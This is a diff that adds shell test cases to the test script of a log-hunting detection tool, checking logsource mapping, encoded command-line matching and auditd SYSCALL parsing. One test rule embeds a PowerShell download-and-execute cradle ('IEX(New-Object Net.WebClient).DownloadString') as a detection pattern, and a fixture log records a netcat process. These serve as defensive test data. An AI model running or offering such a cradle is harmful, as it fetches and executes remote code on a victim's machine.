@@ -225,4 +225,41 @@ check "a problem's file name reaches stderr escaped" "1 0" \
     "$(grep -c 'x\\x1b\]0;t\\x07-bad.jsonl' "$w/esc.err") $(grep -c $'\033' "$w/esc.err")"
 "$TANSA" rules check "$w/rules/r.yml" >/dev/full 2>/dev/null
 check "rules check whose report cannot be written: exit 4" 4 $?
+
+# The review of session 22's diff: a map entry without a product is a
+# Windows log's, not a linux rule's; windash before an encoding still
+# spells out only flag dashes (a command line full of paths loaded before
+# and must still); a SYSCALL record's details show comm, exe and key
+# (written after twenty numbers), several keys under one name.
+printf '%s\n' 'logsources:' '  - category: process_creation' '    sources:' \
+    '      - {channel: Microsoft-Windows-Sysmon/Operational, eventid: [1]}' >"$w/anymap.yml"
+cat >"$w/rules/lnx.yml" <<'EOF'
+title: linux whoami
+logsource: {product: linux, category: process_creation}
+detection:
+  s: {CommandLine|contains: evil}
+  condition: s
+EOF
+check "a map entry without a product does not bring linux rules to Windows logs" 0 \
+    "$("$TANSA" hunt -q -f jsonl --logsource-map "$w/anymap.yml" -r "$w/rules/lnx.yml" "$w/in.jsonl" 2>/dev/null | grep -c 'linux whoami')"
+cat >"$w/rules/enc.yml" <<'EOF'
+title: encoded download
+logsource: {product: windows, category: process_creation}
+detection:
+  s: {CommandLine|windash|base64offset|contains: '-nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(http://x/a)'}
+  condition: s
+EOF
+"$TANSA" rules check "$w/rules/enc.yml" >/dev/null 2>&1
+check "windash before an encoding loads a value full of slashes" 0 $?
+printf 'type=SYSCALL msg=audit(1.0:5): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=7f a2=8 a3=0 items=2 ppid=1 pid=2 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="nc" exe="/usr/bin/nc" key=6B3101616231\n' >"$w/sc.log"
+cat >"$w/rules/sc.yml" <<'EOF'
+title: syscall key
+logsource: {product: linux, service: auditd}
+detection:
+  s: {type: SYSCALL, key: ab1}
+  condition: s
+EOF
+check "a SYSCALL detection's details: comm, exe and both keys under one name" \
+    '{"type":"SYSCALL","key":"k1 ab1","comm":"nc","exe":"/usr/bin/nc"}' \
+    "$("$TANSA" hunt -q -f jsonl -r "$w/rules/sc.yml" "$w/sc.log" 2>/dev/null | jq -c '.details | {type, key, comm, exe}')"
 echo "$pass passed, $fail failed"
